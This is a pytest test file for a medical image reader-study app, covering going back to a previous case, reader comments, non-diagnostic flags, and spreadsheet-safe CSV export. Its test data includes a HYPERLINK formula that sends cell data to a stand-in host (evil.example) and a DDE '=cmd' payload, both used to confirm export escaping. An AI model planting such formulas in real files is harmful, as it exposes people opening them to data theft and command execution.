"""Going back to the previous case (a re-answer is a new row and wins),
refused where the study forbids it, into training / attention checks and across the
wash-out; a comment and a "non-diagnostic image" flag per case, exported (formula-safe)
and counted in the analysis, report and dashboard; migration 6."""
import csv
import dataclasses
import json
import sqlite3
import uuid

import pandas as pd
import pytest
from click.testing import CliRunner

from studies.storage import schema

from studies import back_rule, lifecycle, readers, session

from studies.stats import remarks, report
from studies.stats.analysis import analyze
from studies.storage.connections import open_db
from studies.design import StudyOptions
from studies.errors import NotAuthorised, SessionError
from studies.export import long_table, read_long_csv, write_export
from studies.session import go_back, next_case, submit
from studies.back_rule import CannotGoBack
from studies.serving import stimulus_png
from studio.cli import cli
from study_fixtures import database_at_version, make_study, study, template  # noqa: F401 (fixtures)

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _reader(db, name="dr-a", study="pilot"):
    return readers.reader_for_token(db, readers.invite(db, study, name)).reader_id


def _answer(db, rid, value=None, **kw):
    view = next_case(db, rid)
    q = view.pending[0]
    value = q["scale"][0]["value"] if value is None else value
    ack = submit(db, rid, view.assignment_id, q["task"], value, 900, str(uuid.uuid4()), **kw)
    return view, ack


def _view_id(db, aid):
    with open_db(db) as conn:
        return conn.execute("SELECT view_id FROM assignments WHERE id = ?", [aid]).fetchone()[0]


# ------------------------------------------------------------------------- going back
def test_go_back_reopens_the_previous_case_and_the_re_answer_wins(study):
    rid = _reader(study)
    assert next_case(study, rid).can_go_back is False  # nothing answered yet
    with pytest.raises(CannotGoBack, match="no previous case"):
        go_back(study, rid)
    for _ in range(2):
        _answer(study, rid, 1)
    third, _ = _answer(study, rid, 1)
    old_view = third.stimulus_id
    current = next_case(study, rid)
    assert current.can_go_back and not current.reopened

    back = go_back(study, rid)
    # the previous read is current again, unanswered, under a fresh random view id
    assert back.assignment_id == third.assignment_id and back.position == third.position
    assert back.reopened and back.earlier == {"turing": 1} and len(back.pending) == 1
    assert back.stimulus_id != old_view and len(back.stimulus_id) >= 22
    assert stimulus_png(study, rid, back.stimulus_id, current_only=True).startswith(b"\x89PNG")
    with pytest.raises(NotAuthorised):  # the old URL of the read is dead
        stimulus_png(study, rid, old_view)
    with pytest.raises(NotAuthorised):  # and another reader cannot fetch the new one
        stimulus_png(study, _reader(study, "dr-b"), back.stimulus_id)
    # one step only: a second Back (double press) changes nothing
    assert back.can_go_back is False
    with pytest.raises(CannotGoBack, match="already back"):
        go_back(study, rid)
    assert _view_id(study, back.assignment_id) == back.stimulus_id

    ack = submit(study, rid, back.assignment_id, "turing", 6, 1234, str(uuid.uuid4()),
                 comment=LINK, non_diagnostic=True)
    assert ack.assignment_complete and not ack.duplicate
    assert next_case(study, rid).assignment_id == current.assignment_id  # where it was

    df = long_table(study, "pilot")
    assert len(df) == 3
    row = df.iloc[2]
    assert (row["rating"], row["response"], row["duration_ms"]) == (6, "synthetic", 1234)
    assert (row["comment"], row["non_diagnostic"]) == (LINK, 1)
    assert df.iloc[:2]["non_diagnostic"].tolist() == [0, 0]
    history = long_table(study, "pilot", include_superseded=True)
    old = history[history["superseded"] == 1]
    assert len(old) == 1 and (old.iloc[0]["rating"], old.iloc[0]["comment"]) == (1, "")
    # the analysis of the full history also keeps only the re-answer
    result = analyze(history)
    assert result["input"]["rows_superseded"] == 1
    assert result["turing"]["pooled"]["n"] == 3
    with open_db(study) as conn:
        actions = [r[0] for r in conn.execute("SELECT action FROM audit_log")]
    assert actions.count("go_back") == 1


def test_going_back_into_a_two_question_case_asks_only_the_question_with_the_text(tmp_path):
    # Once a case's text was shown (with the alignment question) its real/synthetic answer
    # is final: going back reopens only the questions asked with the text.
    db, _ = make_study(tmp_path, "two", tasks=("turing", "alignment"),
                       options=StudyOptions(tasks=("turing", "alignment")))
    rid = _reader(db, study="two")
    first, _ = _answer(db, rid, 2)
    _, ack = _answer(db, rid, 4)
    assert ack.assignment_complete
    assert next_case(db, rid).can_go_back  # at the next case's first question
    back = go_back(db, rid)
    assert back.assignment_id == first.assignment_id
    assert [t["task"] for t in back.pending] == ["alignment"]
    assert back.tasks[0]["answered"] and back.prompt  # the text is shown with the question
    assert back.earlier == {"turing": 2, "alignment": 4}
    assert not back.can_go_back  # the turing answer before it is final
    with pytest.raises(SessionError, match="final"):
        submit(db, rid, back.assignment_id, "turing", 5, 900, str(uuid.uuid4()))
    _, ack = _answer(db, rid, 1)
    assert ack.assignment_complete
    view = next_case(db, rid)  # back where the reader was: the first question of case 2
    assert view.assignment_id != first.assignment_id and view.pending[0]["task"] == "turing"
    _answer(db, rid, 3)
    view = next_case(db, rid)  # case 2's text is on screen now
    assert view.pending[0]["task"] == "alignment" and not view.can_go_back
    with pytest.raises(CannotGoBack, match="final"):
        go_back(db, rid)
    rows = long_table(db, "two", include_superseded=True)
    case1 = rows[rows["case"] == rows["case"].iloc[0]]
    assert case1[case1["task"] == "turing"]["rating"].tolist() == [2]
    assert case1[case1["task"] == "alignment"]["rating"].tolist() == [4, 1]


def test_a_study_can_forbid_going_back(study):
    rid = _reader(study)
    _answer(study, rid)
    assert next_case(study, rid).can_go_back
    lifecycle.set_allow_back(study, "pilot", False)
    assert lifecycle.study_texts(study, "pilot").allow_back is False
    assert next_case(study, rid).can_go_back is False
    before = long_table(study, "pilot", include_superseded=True)
    with pytest.raises(CannotGoBack, match="not allowed in this study"):
        go_back(study, rid)
    assert next_case(study, rid).position == 2  # nothing reopened
    assert long_table(study, "pilot", include_superseded=True).equals(before)
    with pytest.raises(Exception, match="true or false"):
        lifecycle.set_allow_back(study, "pilot", "no")
    lifecycle.set_allow_back(study, "pilot", True)
    assert go_back(study, rid).position == 1
    # a deactivated reader and a closed study take no going back either
    readers.set_reader_active(study, "pilot", "dr-a", False)
    with pytest.raises(NotAuthorised):
        go_back(study, rid)
    readers.set_reader_active(study, "pilot", "dr-a", True)
    lifecycle.set_status(study, "pilot", "closed")
    with pytest.raises(session.StudyClosed):
        go_back(study, rid)
    # the export's new columns cannot be taken by a study's own profile fields
    for name in ("comment", "non_diagnostic"):
        with pytest.raises(Exception, match="column of the export"):
            lifecycle.check_profile_fields(name)


def test_going_back_into_training_and_attention_checks_is_refused(tmp_path):
    opts = StudyOptions(training_cases=2, attention_checks=3, seed=5)
    db, _ = make_study(tmp_path, "pilot", options=opts)
    rid = _reader(db)
    with open_db(db) as conn:
        kinds = [k for k, in conn.execute("SELECT kind FROM assignments WHERE reader_id = ? "
                                          "ORDER BY position", [rid])]
    assert kinds[:2] == ["training", "training"] and "attention" in kinds
    seen = {}
    for kind in kinds:
        view = next_case(db, rid)
        refusal = session.back_refused(db, rid)
        assert view.can_go_back is (refusal is None)
        seen.setdefault(refusal, 0)
        seen[refusal] += 1
        if refusal is not None and refusal != back_rule.BACK_NOTHING:
            with pytest.raises(CannotGoBack):
                go_back(db, rid)
        _answer(db, rid, view.pending[0]["scale"][0]["value"])
    assert back_rule.BACK_TRAINING in seen and back_rule.BACK_ATTENTION in seen
    assert seen[None] >= 1  # after an ordinary case going back works
    # after the last case (finished) the previous one may still be reopened
    last_kind = kinds[-1]
    assert (session.back_refused(db, rid) is None) is (last_kind in ("main", "repeat"))


def test_going_back_is_refused_across_the_washout(tmp_path):
    opts = StudyOptions(repeat_fraction=0.5, repeat_after_s=3600)
    db, _ = make_study(tmp_path, "pilot", options=opts)
    rid = _reader(db)
    with open_db(db) as conn:
        n_main = conn.execute("SELECT count(*) FROM assignments WHERE reader_id = ? AND "
                              "kind = 'main'", [rid]).fetchone()[0]
    for _ in range(n_main):
        _answer(db, rid, 2)
    with pytest.raises(session.NotYetAvailable):
        next_case(db, rid)
    # waiting for the wash-out: the last first read may still be changed
    assert session.back_refused(db, rid) is None
    back = go_back(db, rid)
    submit(db, rid, back.assignment_id, "turing", 5, 800, str(uuid.uuid4()))
    with open_db(db) as conn:  # the wash-out has passed
        conn.execute("UPDATE assignments SET completed_at = '2000-01-01T00:00:00.000Z' "
                     "WHERE reader_id = ? AND completed_at IS NOT NULL", [rid])
    repeat = next_case(db, rid)
    assert repeat.can_go_back is False
    with pytest.raises(CannotGoBack, match="wash-out"):
        go_back(db, rid)
    _answer(db, rid, 3)
    # between two delayed repeats going back is fine
    assert next_case(db, rid).can_go_back
    assert go_back(db, rid).assignment_id == repeat.assignment_id


def test_a_reopened_pair_read_gets_fresh_view_ids_for_both_images(tmp_path):
    db, _ = make_study(tmp_path, "pairs", tasks=("pair",), options=StudyOptions(tasks=("pair",)))
    rid = _reader(db, study="pairs")
    _answer(db, rid)
    with open_db(db) as conn:
        aid, view, pair_view = conn.execute(
            "SELECT id, view_id, pair_view_id FROM assignments WHERE reader_id = ? "
            "AND completed_at IS NOT NULL", [rid]).fetchone()
    assert pair_view
    go_back(db, rid)
    with open_db(db) as conn:
        new = conn.execute("SELECT view_id, pair_view_id FROM assignments WHERE id = ?",
                           [aid]).fetchone()
    assert new[0] != view and new[1] != pair_view and new[0] != new[1] and all(new)


# -------------------------------------------------------------------- comment and flag
def test_comment_is_plain_text_checked_and_part_of_the_idempotency_key(study):
    rid = _reader(study)
    view = next_case(study, rid)
    args = (study, rid, view.assignment_id, "turing", 2, 900)
    with pytest.raises(SessionError, match="at most 1000"):
        submit(*args, str(uuid.uuid4()), comment="x" * 1001)
    with pytest.raises(SessionError, match="comment must be text"):
        submit(*args, str(uuid.uuid4()), comment=5)
    with pytest.raises(SessionError, match="true or false"):
        submit(*args, str(uuid.uuid4()), non_diagnostic="yes")
    cid = str(uuid.uuid4())
    word = "  motion\x0bartefact\r\n<b>left</b>  "
    first = submit(*args, cid, comment=word, non_diagnostic=True)
    assert submit(*args, cid, comment=word, non_diagnostic=True).duplicate  # a retry
    with pytest.raises(SessionError, match="different answer"):
        submit(*args, cid, comment="something else", non_diagnostic=True)
    with pytest.raises(SessionError, match="different answer"):
        submit(*args, cid, comment=word, non_diagnostic=False)
    row = long_table(study, "pilot").iloc[0]
    assert row["comment"] == "motion artefact\n<b>left</b>" and row["non_diagnostic"] == 1
    assert first.response_id
    # the comment and flag of a read are shown again with it (e.g. after going back)
    back = go_back(study, rid)
    assert (back.comment, back.non_diagnostic) == ("motion artefact\n<b>left</b>", True)


def test_exported_comments_are_spreadsheet_safe_and_read_back(study, tmp_path):
    rid = _reader(study)
    _answer(study, rid, 2, comment=LINK, non_diagnostic=True)
    _answer(study, rid, 2, comment="@SUM(1+1)")
    _answer(study, rid, 2, comment="-3")
    out = tmp_path / "long.csv"
    write_export(study, "pilot", "long", out)
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["comment"] for r in rows] == ["'" + LINK, "'@SUM(1+1)", "-3"]
    assert [r["non_diagnostic"] for r in rows] == ["1", "0", "0"]
    back = read_long_csv(out)
    assert back["comment"].tolist()[:2] == [LINK, "@SUM(1+1)"]
    # an exported CSV analyses to the same remarks as the database
    assert analyze(back)["reader_flags"] == analyze(long_table(study, "pilot"))["reader_flags"]


def test_remarks_are_counted_per_case_with_the_flagged_ids(study):
    a, b = _reader(study, "dr-a"), _reader(study, "dr-b")
    flags = {}
    for rid, flagged in ((a, {1, 2}), (b, {2})):
        i = 0
        while (view := next_case(study, rid)) is not None:
            i += 1
            _answer(study, rid, 2, non_diagnostic=i in flagged,
                    comment="blurred" if i == 3 else "")
            flags.setdefault(rid, {})[i] = view.assignment_id
    df = long_table(study, "pilot")
    result = analyze(df)["reader_flags"]
    flagged_cases = set(df.loc[df["non_diagnostic"] == 1, "case"])
    assert set(result["non_diagnostic_cases"]) == flagged_cases
    assert result["n_reads_non_diagnostic"] == 3
    assert result["n_cases_non_diagnostic"] == len(flagged_cases) and result["n_cases"] == 12
    assert sum(result["non_diagnostic_cases"].values()) == 3
    assert result["n_comments"] == 2
    # the HTML report lists the flagged ids (escaped), the comment text is not in it
    html = report.render_html(analyze(df))
    assert "flagged non-diagnostic by ≥1 reader" in html and "blurred" not in html
    for case in flagged_cases:
        assert case in html
    # the CLI's summary says it too
    from studio.cli.analysis import format_summary

    line = [x for x in format_summary(analyze(df)).splitlines() if x.startswith("Non-diagnostic")]
    assert line == [f"Non-diagnostic: {len(flagged_cases)} of 12 images flagged by ≥1 reader "
                    f"({', '.join(result['non_diagnostic_cases'])}); 2 reads with a comment"]
    # a table from before comments and flags existed: null with a reason
    old = analyze(df.drop(columns=["comment", "non_diagnostic"]))
    assert old["reader_flags"] is None and "no non_diagnostic column" in old["reader_flags_reason"]


def test_remarks_of_training_reads_are_left_out_and_pairs_name_both_cases():
    df = pd.DataFrame({
        "reader": ["r1", "r1", "r2", "r2"], "case": ["c1", "t1", "c1", "c2"],
        "pair_case": ["", "", "", "c9"], "training": [0, 1, 0, 0],
        "non_diagnostic": [1, 1, 1, 1], "comment": ["", "x", "", ""]})
    out = remarks.summarise(df)["reader_flags"]
    assert out["non_diagnostic_cases"] == {"c1": 2, "c2": 1, "c9": 1}
    assert out["n_comments"] == 0


# ------------------------------------------------------------------------ CLI, migration
def test_cli_configure_allows_and_forbids_going_back(study):
    run = CliRunner().invoke
    res = run(cli, ["study", "configure", "--db", str(study), "--study", "pilot", "--no-back"])
    assert res.exit_code == 0 and "going back not allowed" in res.output
    assert lifecycle.study_texts(study, "pilot").allow_back is False
    res = run(cli, ["study", "configure", "--db", str(study), "--study", "pilot"])
    assert res.exit_code == 0 and "going back not allowed" in res.output  # unchanged
    res = run(cli, ["study", "configure", "--db", str(study), "--study", "pilot", "--allow-back"])
    assert res.exit_code == 0 and "going back allowed" in res.output
    assert lifecycle.study_texts(study, "pilot").allow_back is True
    # all or nothing: a bad profile field leaves the going-back rule as it was
    res = run(cli, ["study", "configure", "--db", str(study), "--study", "pilot", "--no-back",
                    "--profile-fields", "Bad Field"])
    assert res.exit_code == 1 and res.output.startswith("Error: ")
    assert lifecycle.study_texts(study, "pilot").allow_back is True


def test_migration_6_upgrades_a_schema_5_database(tmp_path, monkeypatch):
    path = tmp_path / "old.db"
    with database_at_version(path, 5, monkeypatch) as db:
        sid = db["studies"].insert({"name": "s", "created_at": "x", "size": 64,
                                    "tasks": '["turing"]', "options": "{}", "seed": 0,
                                    "status": "open"}).last_pk
        db["stimuli"].insert({"id": "st1", "study_id": sid, "sha256": "h", "width": 1,
                              "height": 1})
        cid = db["cases"].insert({"study_id": sid, "case_key": "c1", "stimulus_id": "st1",
                                  "source": "real", "role": "main"}).last_pk
        rid = db["readers"].insert({"study_id": sid, "name": "r", "token_hash": "h",
                                    "ordinal": 0, "created_at": "x"}).last_pk
        aid = db["assignments"].insert({"reader_id": rid, "case_id": cid, "position": 1,
                                        "kind": "main", "tasks": '["turing"]', "n_tasks": 1,
                                        "view_id": "v1", "completed_at": "y"}).last_pk
        db["responses"].insert({"client_id": "c", "reader_id": rid, "assignment_id": aid,
                                "case_id": cid, "task": "turing", "answer": "real",
                                "rating": 1, "duration_ms": 5, "answered_at": "y"})
    db = open_db(path)
    try:
        assert db.execute("SELECT max(version) FROM schema_version").fetchone()[0] == schema.SCHEMA_VERSION
        assert db.execute("SELECT comment, non_diagnostic FROM responses").fetchone() == ("", 0)
        assert db.execute("SELECT reopened_after FROM assignments").fetchone() == (None,)
        # a study under way keeps its protocol (no going back); a new one allows it
        assert db.execute("SELECT allow_back FROM studies").fetchone() == (0,)
        db["studies"].insert({"name": "new", "created_at": "x", "size": 64,
                              "tasks": '["turing"]', "options": "{}", "seed": 0})
        assert db.execute("SELECT allow_back FROM studies WHERE name = 'new'").fetchone() == (1,)
        with pytest.raises(sqlite3.IntegrityError, match="append-only"):
            db.execute("UPDATE responses SET comment = 'x'")
    finally:
        db.close()


# ----------------------------------------------------------------------- reader page
def test_reader_page_back_comment_and_flag(tmp_path):
    from studio.reader import handlers as reader_handlers
    from studio.reader import page as reader_page
    from studio_fixtures import leak_needles, make_loud_study

    db, rows, tokens = make_loud_study(tmp_path)
    token = tokens["dr-a"]
    needles = [n.lower() for n in leak_needles(rows)]
    screen = reader_handlers.start(db, token)
    assert screen.kind == "case" and not screen.can_go_back and screen.comment == ""
    # "choose an answer first" keeps what the reader typed
    again = reader_handlers.submit_answer(db, token, screen.state, None, None, "typed", True)
    assert again.message == "Choose an answer first." and (again.comment, again.non_diagnostic) == ("typed", True)
    first_url = screen.image_url
    nxt = reader_handlers.submit_answer(db, token, screen.state, 2, None, "first look", False)
    assert nxt.position == 2 and nxt.can_go_back and nxt.comment == "" and not nxt.selected

    back = reader_handlers.go_back(db, token)
    assert back.kind == "case" and back.position == 1 and back.message == reader_handlers.BACK_DONE
    assert back.new_image and back.image_url != first_url and back.image_url.endswith(token)
    assert back.selected == 2 and back.comment == "first look" and not back.can_go_back
    text = json.dumps(dataclasses.asdict(back), default=str).lower()
    assert not [n for n in needles if n in text]
    twice = reader_handlers.go_back(db, token)  # a second press: same case, says why
    assert twice.position == 1 and "already back" in twice.message

    done = reader_handlers.submit_answer(db, token, back.state, 5, None, "=cmd|' /C calc'!A0", True)
    assert done.position == 2 and done.comment == "" and done.can_go_back
    row = long_table(db, "ten").iloc[0]
    assert (row["rating"], row["comment"], row["non_diagnostic"]) == (5, "=cmd|' /C calc'!A0", 1)
    assert len(long_table(db, "ten", include_superseded=True)) == 2

    lifecycle.set_allow_back(db, "ten", False)
    assert not reader_handlers.start(db, token).can_go_back
    refused = reader_handlers.go_back(db, token)
    assert refused.position == 2 and "not allowed in this study" in refused.message
    lifecycle.set_allow_back(db, "ten", True)

    screen = reader_handlers.start(db, token)
    while screen.kind == "case":
        screen = reader_handlers.submit_answer(db, token, screen.state, 3)
    assert screen.kind == "finished" and screen.can_go_back  # the last case may be changed
    last = reader_handlers.go_back(db, token)
    assert last.kind == "case" and last.position == 10 and last.selected == 3
    # a refresh on the reopened case shows it again (not the instructions)
    assert reader_handlers.open_page(db, token).position == 10
    assert reader_handlers.submit_answer(db, token, last.state, 4).kind == "finished"
    lifecycle.set_status(db, "ten", "closed")
    assert "closed" in reader_handlers.storage_safe(reader_handlers.go_back)(db, token).message


def test_back_marker_and_css_hide_back_unless_allowed():
    from studio.reader import handlers as reader_handlers
    from studio.reader import page as reader_page

    assert reader_page.back_marker(True) == '<span data-back="1"></span>'
    assert reader_page.back_marker(False) == ""
    css = reader_page.SCREEN_CSS
    assert '#reader:not(:has(#back-state [data-back])) .back-btn' in css
    assert '#reader:has(#screen [data-screen="feedback"]) #remarks' in css


def test_admin_back_setting_and_dashboard_remarks(study, tmp_path):
    from studio.admin import analysis_tab, settings_tab
    from studio.format.plain_text import plain_markdown

    assert settings_tab.back_setting(study, "pilot") is True
    assert "cannot go back" in settings_tab.save_back_setting(study, "pilot", False)
    assert settings_tab.back_setting(study, "pilot") is False
    with pytest.raises(Exception, match="choose a study"):
        settings_tab.save_back_setting(study, "", True)
    rid = _reader(study)
    view, _ = _answer(study, rid, 2, non_diagnostic=True, comment="noise")
    d = analysis_tab.dashboard(study, "pilot")
    case = long_table(study, "pilot").iloc[0]["case"]
    assert "1 of 1 images flagged non-diagnostic by ≥1 reader" in d.note
    assert plain_markdown(case) in d.note and "noise" not in d.note
    paths = analysis_tab.export_files(study, "pilot", tmp_path / "out")
    long_csv = [p for p in paths if p.name.endswith("-long.csv")][0]
    assert read_long_csv(long_csv)["comment"].tolist() == ["noise"]
